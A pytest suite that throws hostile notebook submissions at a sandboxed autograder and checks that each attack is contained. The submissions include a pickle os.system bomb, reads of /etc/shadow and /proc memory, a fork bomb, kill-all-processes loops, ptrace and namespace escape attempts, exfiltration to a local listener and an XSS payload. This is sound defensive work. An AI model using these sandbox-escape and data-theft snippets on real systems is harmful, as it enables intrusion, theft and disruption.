"""Hostile notebooks, one attack each, graded through the real `gcgrade grade`.

Each test pins the verdict (which function lost its points, and the words a learner reads)
and, through the `damage` fixture, what did not happen: no file written outside the
sandbox's scratch /tmp, no connection to a listener on 127.0.0.1, no process left behind,
no other function or bystander hurt, no course secret or staff file in any report.
"""
import json
import os
import secrets
import shutil
import socket
import subprocess
import tempfile
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import ROOT, run_cli, processes_with
from grader import sandbox
from grader.grade import grade_many
from grader.sandbox import ForkServer
from grader.synth import make_notebook, write_notebook
from solutions.mistakes import CORRECT

POINTS = {"forward_propagation": 10, "backward_propagation": 10, "gradient_check": 10, "gradient_check_n": 20}
RUN = secrets.token_hex(4)
SECRET = f"redteam-course-secret-{secrets.token_hex(8)}"
MARKER = f"gcgrade-redteam-{RUN}"          #: in the argv of every process an attack starts
CANARY = f"/tmp/gcgrade-canary-{RUN}"      #: the grader's own /tmp, which no attack may reach
#: text from the hidden checks that never appears in any report
HIDDEN_TEXT = "scale = float(rng.uniform(1.2, 1.6))"
#: seconds per call for these runs, so an attack that hangs costs 3 s, not 10
TIMEOUT = "3"


@dataclass
class Graded:
    """What `gcgrade grade` produced for one hostile notebook."""
    data: dict
    text: str    #: the results JSON as written
    html: str
    stdout: str

    @property
    def scores(self) -> dict:
        return {name: f["score"] for name, f in self.data["extra_data"]["functions"].items()}

    def checks(self, function: str) -> list:
        return next(f["checks"] for f in self.data["extra_data"]["result"]["functions"] if f["name"] == function)

    def messages(self, function: str) -> str:
        return "\n".join(check["message"] for check in self.checks(function))

    def output(self, function: str) -> str:
        return "\n".join(check["output"] for check in self.checks(function))

    def others_keep_full_marks(self, *losers: str) -> bool:
        return all(score == POINTS[name] for name, score in self.scores.items() if name not in losers)


@pytest.fixture(scope="module")
def staff():
    """A staff folder the way a course keeps one: world-readable, outside /tmp and the usual home folders."""
    parent = "/var/lib" if os.access("/var/lib", os.W_OK) else None
    folder = Path(tempfile.mkdtemp(prefix="gcgrade-redteam-", dir=parent))
    folder.chmod(0o755)
    (folder / "out").mkdir(mode=0o755)
    (folder / "submissions").mkdir(mode=0o755)
    (folder / "out" / "gradebook.sqlite").write_text(f"GRADEBOOK-{RUN}")
    (folder / "submissions" / "other.ipynb").write_text(f"OTHER-SUBMISSION-{RUN}")
    for path in folder.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def listener():
    """A TCP listener on 127.0.0.1 that no attack may reach."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


@pytest.fixture
def bystander():
    """A process of the grader's machine that no attack may kill."""
    process = subprocess.Popen(["sleep", "300"], start_new_session=True)
    yield process
    process.kill()
    process.wait()


@pytest.fixture(autouse=True)
def damage(staff, listener, bystander, monkeypatch):
    """Set the scene (secret, short timeout), then check what every attack must not have done."""
    monkeypatch.setenv("GCGRADE_SECRET", SECRET)
    monkeypatch.setenv("GCGRADE_CALL_TIMEOUT", TIMEOUT)
    yield
    time.sleep(0.2)
    assert not processes_with(MARKER), "a process started by learner code outlived its sandbox"
    for path in (ROOT / "pwned.txt", staff / "pwned.txt", staff / "out" / "pwned.txt", Path(CANARY), Path("/etc/pwned")):
        assert not path.exists(), f"learner code wrote {path}"
    with pytest.raises(BlockingIOError):
        listener.accept()
    assert bystander.poll() is None, "learner code killed a process of the machine"


def cell(*parts: str) -> str:
    """A cell's source from pieces written at any indentation."""
    return "".join(textwrap.dedent(part) for part in parts)


def grade_attack(staff, name: str, sources: dict, listener=None) -> Graded:
    """Grade CORRECT with `sources` swapped in, through the real command, and read back every output."""
    values = {"@MARKER@": MARKER, "@CANARY@": CANARY, "@STAFF@": str(staff), "@PROJECT@": str(ROOT),
              "@PORT@": str(listener.getsockname()[1] if listener else 9), "@HOSTPID@": str(os.getpid())}
    notebook = {}
    for function, source in sources.items():
        source = textwrap.dedent(source)
        for key, value in values.items():
            source = source.replace(key, value)
        notebook[function] = source
    path = write_notebook(staff / "submissions" / f"{name}.ipynb", make_notebook(dict(CORRECT, **notebook)))
    done = run_cli("grade", path, "--out", staff / "out")
    assert done.returncode == 0, done.stderr[-3000:]
    text = (staff / "out" / f"{name}.json").read_text(encoding="utf-8")
    graded = Graded(json.loads(text), text, (staff / "out" / f"{name}.html").read_text(encoding="utf-8"), done.stdout)
    for leak in (SECRET, f"GRADEBOOK-{RUN}", f"OTHER-SUBMISSION-{RUN}", HIDDEN_TEXT):
        assert leak not in graded.text + graded.html + graded.stdout, f"{leak!r} reached a report"
    assert "\x1b" not in graded.stdout + graded.text, "learner text reached the terminal or the JSON unescaped"
    return graded


# -- lying values -------------------------------------------------------------------------------------

def test_object_whose_equality_is_always_true_gets_no_points(staff):
    graded = grade_attack(staff, "always_equal", {"forward_propagation": """
        class AlwaysEqual:
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            def __float__(self):
                return 8.0
        def forward_propagation(x, theta):
            return AlwaysEqual()
        """})
    assert graded.scores["forward_propagation"] == 0 and graded.others_keep_full_marks("forward_propagation")
    assert "Value is of type __main__.AlwaysEqual, which is not plain data" in graded.messages("forward_propagation")


def test_float_subclass_with_lying_operators_gets_no_points(staff):
    graded = grade_attack(staff, "lying_float", {"gradient_check": """
        class Liar(float):
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __lt__ = __gt__ = __ne__ = lambda self, other: False
            __sub__ = __rsub__ = __abs__ = lambda self, *other: Liar(0.0)
        def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
            return Liar(1e-9)
        """})
    assert graded.scores["gradient_check"] == 0 and graded.others_keep_full_marks("gradient_check")
    assert "Value is of type __main__.Liar, which is not plain data" in graded.messages("gradient_check")


def test_replacing_numpy_comparisons_changes_nothing(staff):
    graded = grade_attack(staff, "replace_allclose", {"backward_propagation": """
        import math
        np.allclose = np.isclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
        math.isclose = lambda *args, **kwargs: True
        def backward_propagation(x, theta):
            return theta + 1000
        """})
    assert graded.scores["backward_propagation"] == 0 and graded.others_keep_full_marks("backward_propagation")
    assert "backward_propagation(2, 4) returned 1004; expected 2" in graded.messages("backward_propagation")


def test_returning_non_plain_data_is_a_failed_check_not_a_crash(staff):
    graded = grade_attack(staff, "non_plain_data", {
        "forward_propagation": "def forward_propagation(x, theta):\n    return (v for v in [theta * x])\n",
        "backward_propagation": "def backward_propagation(x, theta):\n    return np\n",
        "gradient_check": """
            import os
            class PickleBomb:
                def __reduce__(self):
                    return (os.system, ("touch @CANARY@",))
            def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
                return PickleBomb()
            """,
        "gradient_check_n": """
            def gradient_check_n(parameters, gradients, X, Y, epsilon=1e-7, print_msg=False):
                return np.array([0.0, "1e-9"], dtype=object)
            """})
    assert graded.scores == {name: 0 for name in POINTS}
    for function, words in (("forward_propagation", "of type builtins.generator, which is not plain data"),
                            ("backward_propagation", "of type builtins.module, which is not plain data"),
                            ("gradient_check", "of type __main__.PickleBomb, which is not plain data"),
                            ("gradient_check_n", "a numpy array of dtype object, not a numeric array")):
        assert words in graded.messages(function)


def test_wrong_types_and_nan_fail_with_clear_messages(staff):
    graded = grade_attack(staff, "wrong_types", {
        "forward_propagation": "def forward_propagation(x, theta):\n    return str(theta * x)\n",
        "backward_propagation": "def backward_propagation(x, theta):\n    return float('nan')\n",
        "gradient_check": "def gradient_check(x, theta, epsilon=1e-7, print_msg=False):\n    return None\n"})
    assert graded.scores["forward_propagation"] == graded.scores["backward_propagation"] == 0
    assert graded.scores["gradient_check"] == 0
    assert graded.others_keep_full_marks("forward_propagation", "backward_propagation", "gradient_check")
    assert ("forward_propagation(2, 4) returned a str; a single number was expected."
            in graded.messages("forward_propagation"))
    assert "backward_propagation(2, 4) returned nan; expected 2." in graded.messages("backward_propagation")
    assert "returned None, not a number." in graded.messages("gradient_check")


def test_huge_return_values_are_refused_not_shipped(staff):
    graded = grade_attack(staff, "huge_returns", {
        "forward_propagation": "def forward_propagation(x, theta):\n    return np.zeros(10 ** 7)\n",
        "backward_propagation": """
            def backward_propagation(x, theta):
                value = [x]
                for _ in range(100_000):
                    value = [value]
                return value
            """})
    assert graded.scores["forward_propagation"] == graded.scores["backward_propagation"] == 0
    assert graded.others_keep_full_marks("forward_propagation", "backward_propagation")
    assert "Value has 10000000 elements, more than 4000000" in graded.messages("forward_propagation")
    assert "nested more than 32 levels deep" in graded.messages("backward_propagation")


# -- reading what is not the learner's ----------------------------------------------------------------

READ = """
    import os
    def look(paths):
        for path in paths:
            try:
                found = os.listdir(path) if os.path.isdir(path) else open(path, errors="replace").read(300)
                print("READ", path, found)
            except OSError as exc:
                print("DENIED", path, type(exc).__name__)
    """


def test_reading_the_solutions_and_hidden_checks_finds_nothing(staff):
    graded = grade_attack(staff, "read_solutions", {"forward_propagation": cell(READ, """
        def forward_propagation(x, theta):
            look(["@PROJECT@", "@PROJECT@/solutions/reference.py", "@PROJECT@/solutions/checks/check_gradient_check.py",
                  "@PROJECT@/solutions/secret.txt", "@PROJECT@/grader/checks.py"])
            return None
        """)})
    assert graded.scores["forward_propagation"] == 0 and graded.others_keep_full_marks("forward_propagation")
    output = graded.output("forward_propagation")
    assert "READ" not in output and f"DENIED {ROOT}/solutions/reference.py FileNotFoundError" in output


def test_reading_the_gradebook_outputs_and_other_submissions_finds_nothing(staff):
    graded = grade_attack(staff, "read_gradebook", {"backward_propagation": cell(READ, """
        def backward_propagation(x, theta):
            look(["@STAFF@", "@STAFF@/out", "@STAFF@/out/gradebook.sqlite", "@STAFF@/submissions/other.ipynb"])
            return None
        """)})
    assert graded.scores["backward_propagation"] == 0 and graded.others_keep_full_marks("backward_propagation")
    output = graded.output("backward_propagation")
    assert "READ" not in output and "DENIED @STAFF@/out/gradebook.sqlite FileNotFoundError".replace(
        "@STAFF@", str(staff)) in output


def test_reading_shared_and_home_folders_finds_nothing(staff):
    graded = grade_attack(staff, "read_homes", {"gradient_check": cell(READ, """
        def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
            look(["/work", "/work/shared/DESIGN.md", "/root/.bash_history", "/home", "/etc/shadow", "/var/lib", "/srv"])
            return None
        """)})
    assert graded.scores["gradient_check"] == 0 and graded.others_keep_full_marks("gradient_check")
    output = graded.output("gradient_check")
    assert "READ" not in output and "The trust boundary" not in output and "DENIED /etc/shadow" in output


def test_environment_processes_and_memory_hold_no_secret(staff):
    graded = grade_attack(staff, "environment", {"gradient_check": """
        import gc, os, sys
        def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
            print("ENV", sorted(os.environ))
            print("MODULES", sorted(m for m in sys.modules if m.split(".")[0] in ("solutions", "grader", "pytest")))
            print("PROCESSES", sorted(p for p in os.listdir("/proc") if p.isdigit()))
            for pid in (1, 2, 3, @HOSTPID@):  # the last one is the test's own process on the machine
                for name in ("environ", "cmdline", "mem"):
                    try:
                        print(pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:200])
                    except OSError as exc:
                        print(pid, name, type(exc).__name__)
            print("STRINGS", [s[:80] for s in gc.get_objects() if type(s) is str and "GCGRADE_SECRET" in s][:5])
            return None
        """})
    assert graded.scores["gradient_check"] == 0 and graded.others_keep_full_marks("gradient_check")
    output = graded.output("gradient_check")
    assert "ENV ['HOME', 'LANG', 'PATH', 'TMPDIR']" in output and "GCGRADE" not in output
    assert "MODULES ['grader', 'grader.jail', 'grader.provided', 'grader.sandbox_child', 'grader.wire']" in output
    assert "PROCESSES ['1']" in output and "STRINGS []" in output
    assert f"{os.getpid()} environ FileNotFoundError" in output and f"{os.getpid()} mem FileNotFoundError" in output


# -- writing where it must not ------------------------------------------------------------------------

def test_writing_outside_the_scratch_folder_fails_and_scratch_stays_private(staff):
    graded = grade_attack(staff, "write_files", {"gradient_check": """
        import os
        def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
            for path in ("@PROJECT@/pwned.txt", "@STAFF@/pwned.txt", "@STAFF@/out/pwned.txt", "/etc/pwned",
                         "/usr/pwned", "/dev/shm/pwned", "/var/tmp/pwned", "/pwned"):
                try:
                    with open(path, "w") as handle:
                        handle.write("pwned")
                    print("WROTE", path)
                except OSError as exc:
                    print("DENIED", path, type(exc).__name__)
            with open("@CANARY@", "w") as handle:  # the sandbox's own /tmp: allowed, and gone afterwards
                handle.write("scratch")
            return None
        """})
    assert graded.scores["gradient_check"] == 0 and graded.others_keep_full_marks("gradient_check")
    output = graded.output("gradient_check")
    assert "WROTE" not in output and "DENIED /etc/pwned OSError" in output and "DENIED /pwned OSError" in output


# -- network ------------------------------------------------------------------------------------------

def test_connecting_to_a_local_listener_is_impossible(staff, listener):
    graded = grade_attack(staff, "network_tcp", {"forward_propagation": """
        import socket
        def forward_propagation(x, theta):
            connection = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)
            connection.sendall(b"stolen answers")
            return theta * x
        """}, listener)
    assert graded.scores["forward_propagation"] == 0 and graded.others_keep_full_marks("forward_propagation")
    assert "Your code raised OSError: [Errno 101] Network is unreachable" in graded.messages("forward_propagation")


def test_dns_and_outside_addresses_are_unreachable(staff):
    graded = grade_attack(staff, "network_dns", {"backward_propagation": """
        import socket
        def backward_propagation(x, theta):
            try:
                socket.getaddrinfo("pypi.org", 443)
            except OSError as exc:
                print("DNS", type(exc).__name__)
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"q", ("8.8.8.8", 53))
            return x
        """})
    assert graded.scores["backward_propagation"] == 0 and graded.others_keep_full_marks("backward_propagation")
    assert "DNS gaierror" in graded.output("backward_propagation")
    assert "Your code raised OSError: [Errno 101] Network is unreachable" in graded.messages("backward_propagation")


# -- ending the process -------------------------------------------------------------------------------

def test_os_exit_in_a_function_costs_only_that_function(staff):
    graded = grade_attack(staff, "os_exit_function", {"gradient_check": """
        import os
        def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
            os._exit(3)
        """})
    assert graded.scores["gradient_check"] == 0 and graded.others_keep_full_marks("gradient_check")
    assert "Your code ended the Python process (os._exit(3) or similar)" in graded.messages("gradient_check")


def test_sys_exit_in_a_function_costs_only_that_function(staff):
    graded = grade_attack(staff, "sys_exit_function", {"backward_propagation": """
        import sys
        def backward_propagation(x, theta):
            sys.exit("bye")
        """})
    assert graded.scores["backward_propagation"] == 0 and graded.others_keep_full_marks("backward_propagation")
    assert "Your code called exit('bye')" in graded.messages("backward_propagation")


def test_os_exit_at_the_top_of_a_cell_costs_only_that_function(staff):
    graded = grade_attack(staff, "os_exit_top_level", {"forward_propagation": """
        import os
        os._exit(0)
        def forward_propagation(x, theta):
            return theta * x
        """})
    assert graded.scores["forward_propagation"] == 0 and graded.others_keep_full_marks("forward_propagation")
    assert ("Running the cell that defines forward_propagation failed before the function could be called: "
            "your code ended the Python process (os._exit(0) or similar)") in graded.messages("forward_propagation")


def test_sys_exit_at_the_top_of_a_cell_costs_only_that_function(staff):
    graded = grade_attack(staff, "sys_exit_top_level", {"gradient_check_n": cell("""
        import sys
        sys.exit()
        """, CORRECT["gradient_check_n"])})
    assert graded.scores["gradient_check_n"] == 0 and graded.others_keep_full_marks("gradient_check_n")
    assert "your code called exit(None)" in graded.messages("gradient_check_n")


# -- processes ----------------------------------------------------------------------------------------

def test_children_that_ignore_sigterm_do_not_outlive_the_sandbox(staff):
    graded = grade_attack(staff, "survivors", {"gradient_check_n": cell("""
        import os, signal
        def escape():
            try:
                child = os.fork()
            except OSError:  # the process limit: enough children are already out there
                return
            if child == 0:
                try:
                    os.setsid()
                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
                    signal.signal(signal.SIGHUP, signal.SIG_IGN)
                    if os.fork() == 0:
                        os.execv("/bin/sleep", ["@MARKER@", "1000"])
                finally:
                    os._exit(0)
        """, CORRECT["gradient_check_n"].replace("    parameters_values, _ =",
                                                 "    escape()\n    parameters_values, _ ="))})
    assert graded.scores == POINTS  # the children do not change the answer; they just do not survive


def test_fork_bomb_meets_the_process_limit_and_the_clock(staff):
    graded = grade_attack(staff, "fork_bomb", {"backward_propagation": """
        import os, signal
        def backward_propagation(x, theta):
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                try:
                    if os.fork() == 0:
                        os.execv("/bin/sleep", ["@MARKER@", "1000"])
                except OSError:
                    pass
        """})
    assert graded.scores["backward_propagation"] == 0 and graded.others_keep_full_marks("backward_propagation")
    assert "Stopped after 3 s: the code did not finish in time" in graded.messages("backward_propagation")


def test_endless_loop_is_stopped_after_ten_seconds(staff, monkeypatch):
    monkeypatch.delenv("GCGRADE_CALL_TIMEOUT")
    graded = grade_attack(staff, "endless_loop", {"forward_propagation": """
        def forward_propagation(x, theta):
            while True:
                pass
        """})
    assert graded.scores["forward_propagation"] == 0 and graded.others_keep_full_marks("forward_propagation")
    assert "Stopped after 10 s: the code did not finish in time" in graded.messages("forward_propagation")


def test_busy_thread_pool_is_stopped_on_time(staff):
    started = time.monotonic()
    graded = grade_attack(staff, "thread_pool", {"gradient_check": """
        import threading
        def spin():
            while True:
                pass
        def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
            for _ in range(64):
                try:
                    threading.Thread(target=spin, daemon=True).start()
                except RuntimeError:
                    break
            spin()
        """})
    assert graded.scores["gradient_check"] == 0 and graded.others_keep_full_marks("gradient_check")
    assert "Stopped after 3 s" in graded.messages("gradient_check") and time.monotonic() - started < 30


def test_killing_the_parent_and_every_process_hurts_nobody(staff, bystander):
    graded = grade_attack(staff, "kill_everyone", {"forward_propagation": """
        import os, signal
        def forward_propagation(x, theta):
            for target in (os.getppid(), 0, -1):
                for sig in (signal.SIGTERM, signal.SIGKILL):
                    try:
                        os.kill(target, sig)
                    except OSError:
                        pass
            for pid in range(2, 4096):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            return theta * x
        """})
    assert graded.scores == POINTS and bystander.poll() is None


# -- resources ----------------------------------------------------------------------------------------

def test_allocating_four_gib_is_a_memory_error(staff):
    graded = grade_attack(staff, "memory", {"backward_propagation": """
        def backward_propagation(x, theta):
            hoard = np.ones((4 << 30) // 8)
            return x
        """})
    assert graded.scores["backward_propagation"] == 0 and graded.others_keep_full_marks("backward_propagation")
    assert "Your code ran out of memory (it may use at most 256 MiB)" in graded.messages("backward_propagation")


def test_endless_recursion_is_a_recursion_error(staff):
    graded = grade_attack(staff, "recursion", {"forward_propagation": """
        def forward_propagation(x, theta):
            return forward_propagation(x, theta)
        """})
    assert graded.scores["forward_propagation"] == 0 and graded.others_keep_full_marks("forward_propagation")
    assert "Your code recursed too deeply" in graded.messages("forward_propagation")


def test_segfault_via_ctypes_is_a_crash_of_that_function_only(staff):
    graded = grade_attack(staff, "segfault", {"gradient_check": """
        import ctypes
        def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
            return ctypes.string_at(0)
        """})
    assert graded.scores["gradient_check"] == 0 and graded.others_keep_full_marks("gradient_check")
    assert "The Python process running your code crashed with a segmentation fault" in graded.messages("gradient_check")


def test_huge_output_is_capped_and_escaped(staff):
    payload = '<script>alert("gcgrade")</script>'
    graded = grade_attack(staff, "huge_output", {"backward_propagation": f"""
        def backward_propagation(x, theta):
            print('{payload}' + '\\x1b[2J\\x07\\udcff')
            print("x" * 10_000_000)
            return "no"
        """})
    assert graded.scores["backward_propagation"] == 0 and graded.others_keep_full_marks("backward_propagation")
    for check in graded.checks("backward_propagation"):
        assert check["output"].startswith(payload + "\\x1b[2J\\x07\\udcff\nxxx") and len(check["output"]) < 20_100
        assert "more characters not shown" in check["output"]
    assert payload not in graded.html


# -- the grader's channel -----------------------------------------------------------------------------

def test_garbage_written_into_the_graders_socket_is_a_protocol_error(staff):
    graded = grade_attack(staff, "socket_garbage", {"backward_propagation": """
        import os
        def backward_propagation(x, theta):
            for fd in range(64):
                try:
                    os.write(fd, b"\\xff\\x00garbage" * 100)
                except OSError:
                    pass
            return x
        """})
    assert graded.scores["backward_propagation"] == 0 and graded.others_keep_full_marks("backward_propagation")
    assert "Your code wrote into the grader's channel" in graded.messages("backward_propagation")


def test_forged_frames_aimed_at_the_grader_do_not_crash_it(staff):
    graded = grade_attack(staff, "forged_frames", {"gradient_check": """
        import json, os, stat, struct
        def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
            for fd in range(64):
                try:
                    if stat.S_ISSOCK(os.fstat(fd).st_mode):
                        body = json.dumps({"op": "ended", "signal": "x", "code": "<script>" * 1000}).encode()
                        os.write(fd, struct.pack(">I", len(body)) + body)
                except OSError:
                    pass
            return 0.0
        """})
    assert graded.scores["gradient_check"] == 0 and graded.others_keep_full_marks("gradient_check")
    assert "Your code ended the Python process (os._exit(...) or similar)" in graded.messages("gradient_check")


def test_patched_json_and_print_forge_only_what_the_learner_could_return(staff):
    graded = grade_attack(staff, "forged_replies", {"backward_propagation": """
        import builtins, json
        real_dumps = json.dumps
        def forged(message, *args, **kwargs):
            json.dumps = real_dumps  # forge one reply, the one for this call
            return real_dumps(dict(message, value=8.0, output="all checks passed"))
        def backward_propagation(x, theta):
            builtins.print = lambda *args, **kwargs: None
            json.dumps = forged
            return x
        """})
    assert graded.scores["backward_propagation"] == 0 and graded.others_keep_full_marks("backward_propagation")
    assert "backward_propagation(2, 4) returned 8; expected 2" in graded.messages("backward_propagation")


# -- privileges and other processes -------------------------------------------------------------------

def test_ptrace_and_proc_mem_reach_only_the_sandbox_itself(staff):
    graded = grade_attack(staff, "ptrace", {"gradient_check": """
        import ctypes, os
        def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
            libc = ctypes.CDLL(None, use_errno=True)
            attached = [pid for pid in [*range(2, 4096), @HOSTPID@] if libc.ptrace(16, pid, 0, 0) == 0]
            readable = []
            for pid in range(2, 4096):
                try:
                    with open(f"/proc/{pid}/mem", "rb") as handle:
                        readable.append(pid)
                except OSError:
                    pass
            for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/hostname"):
                try:
                    open(path, "w").write("b")
                    print("WROTE", path)
                except OSError as exc:
                    print("DENIED", path, type(exc).__name__)
            print("ATTACHED", attached, "MEM", readable)
            return None
        """})
    assert graded.scores["gradient_check"] == 0 and graded.others_keep_full_marks("gradient_check")
    output = graded.output("gradient_check")
    assert "WROTE" not in output and "ATTACHED [] MEM []" in output


def test_setuid_capabilities_and_a_nested_user_namespace_do_not_escape(staff):
    graded = grade_attack(staff, "privileges", {"forward_propagation": """
        import ctypes, os
        def forward_propagation(x, theta):
            libc = ctypes.CDLL(None, use_errno=True)
            for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/tmp")):
                try:
                    attempt()
                    print("GAINED")
                except OSError as exc:
                    print("REFUSED", type(exc).__name__)
            # a user namespace of its own would bring every capability in it, and a tmpfs of any size
            print("UNSHARE", libc.unshare(0x10000000 | 0x00020000),
                  "MOUNT", libc.mount(b"fill", b"/tmp", b"tmpfs", 0, None),
                  "UMOUNT", libc.umount2(b"/", 2), libc.umount2(b"/tmp", 2), "CHROOT", libc.chroot(b".."))
            os.chdir("..")
            print("PROJECT", os.path.exists("@PROJECT@"), "STAFF", os.path.exists("@STAFF@"))
            print("ROOT", sorted(os.listdir("/")))
            return None
        """})
    assert graded.scores["forward_propagation"] == 0 and graded.others_keep_full_marks("forward_propagation")
    output = graded.output("forward_propagation")
    assert "GAINED" not in output and "UNSHARE -1 MOUNT -1 UMOUNT -1 -1 CHROOT -1" in output
    assert "PROJECT True" not in output and "STAFF True" not in output and "PROJECT False STAFF False" in output
    shown = output.split("ROOT ", 1)[1].splitlines()[0]
    assert "'work'" not in shown and "'var'" not in shown and "'home'" not in shown


# -- many submissions in one session ------------------------------------------------------------------

#: one failure per kind, inside the function or at the top of its cell; each costs at most that function's points
ISOLATION = {
    "hang_in_function": ("forward_propagation", "def forward_propagation(x, theta):\n    while True:\n        pass\n"),
    "hang_at_top": ("backward_propagation", "while True:\n    pass\n" + CORRECT["backward_propagation"]),
    "segfault_in_function": ("gradient_check", "import ctypes\n"
                                               "def gradient_check(x, theta, epsilon=1e-7, print_msg=False):\n"
                                               "    ctypes.string_at(0)\n"),
    "segfault_at_top": ("gradient_check_n", "import ctypes\nctypes.string_at(0)\n" + CORRECT["gradient_check_n"]),
    "os_exit_in_function": ("backward_propagation", "import os\ndef backward_propagation(x, theta):\n    os._exit(1)\n"),
    "sys_exit_at_top": ("forward_propagation", "import sys\nsys.exit(2)\n" + CORRECT["forward_propagation"]),
    "memory_in_function": ("gradient_check", "def gradient_check(x, theta, epsilon=1e-7, print_msg=False):\n"
                                             "    return bytearray(4 << 30)\n"),
    "memory_at_top": ("forward_propagation", "hoard = bytearray(4 << 30)\n" + CORRECT["forward_propagation"]),
    "recursion_in_function": ("gradient_check_n", "def gradient_check_n(*args, **kwargs):\n"
                                                  "    return gradient_check_n(*args, **kwargs)\n"),
    "recursion_at_top": ("backward_propagation", "def down(n):\n    return down(n + 1)\ndown(0)\n"
                                                 + CORRECT["backward_propagation"]),
}
#: failures at the top of a cell that Python survives: the function is still defined, graded, and keeps its points
SURVIVED = {"memory_at_top", "recursion_at_top"}


@pytest.fixture(scope="module")
def session_results(tmp_path_factory):
    """Clean and hostile notebooks mixed in one grade_many session, as a batch worker grades them."""
    folder = tmp_path_factory.mktemp("mixed")
    inputs = [(write_notebook(folder / "clean_first.ipynb", make_notebook(CORRECT)), "clean_first")]
    for name, (function, source) in ISOLATION.items():
        inputs.append((write_notebook(folder / f"{name}.ipynb", make_notebook(dict(CORRECT, **{function: source}))), name))
    inputs.append((folder / "missing.ipynb", "missing"))
    inputs.append((write_notebook(folder / "clean_last.ipynb", make_notebook(CORRECT)), "clean_last"))
    results = {}
    patch = pytest.MonkeyPatch()
    patch.setattr(sandbox, "CALL_TIMEOUT", 3.0)
    try:
        grade_many(inputs, lambda result: results.__setitem__(result.submission, result))
    finally:
        patch.undo()
    return results


def test_every_notebook_in_a_mixed_session_gets_a_result(session_results):
    assert set(session_results) == set(ISOLATION) | {"clean_first", "clean_last", "missing"}
    assert session_results["clean_first"].score == session_results["clean_last"].score == 50
    assert session_results["missing"].score == 0 and session_results["missing"].error


@pytest.mark.parametrize("name", sorted(ISOLATION))
def test_a_failure_costs_that_function_and_no_other(session_results, name):
    function, _ = ISOLATION[name]
    scores = {f.name: f.score for f in session_results[name].functions}
    expected = dict(POINTS) if name in SURVIVED else dict(POINTS, **{function: 0})
    assert scores == expected
    if name in SURVIVED:
        assert any("a line outside the function raised" in w for w in session_results[name].warnings)


@pytest.mark.skipif(os.geteuid() != 0, reason="switching the fork server to another user needs root")
def test_an_unprivileged_fork_server_holds_the_same_walls(staff, listener):
    attack = cell(READ, """
        import socket
        def forward_propagation(x, theta):
            look(["@PROJECT@/solutions/reference.py", "@STAFF@/out/gradebook.sqlite", "/proc/2/environ"])
            try:
                socket.create_connection(("127.0.0.1", @PORT@), timeout=1)
                print("CONNECTED")
            except OSError as exc:
                print("NO NETWORK", exc.errno)
            for path in ("@STAFF@/pwned.txt", "@PROJECT@/pwned.txt"):
                try:
                    open(path, "w").write("x")
                    print("WROTE", path)
                except OSError:
                    pass
            return None
        """)
    source = textwrap.dedent(attack).replace("@PROJECT@", str(ROOT)).replace("@STAFF@", str(staff)).replace(
        "@PORT@", str(listener.getsockname()[1]))
    path = write_notebook(staff / "submissions" / "unprivileged.ipynb",
                          make_notebook(dict(CORRECT, forward_propagation=source)))
    results = []
    with ForkServer(user=(65534, 65534)) as server:
        grade_many([(path, "unprivileged")], results.append, server)
    output = "\n".join(c.output for c in results[0].function("forward_propagation").checks)
    assert results[0].score == 40 and "READ" not in output and "WROTE" not in output and "CONNECTED" not in output
    assert "NO NETWORK 101" in output
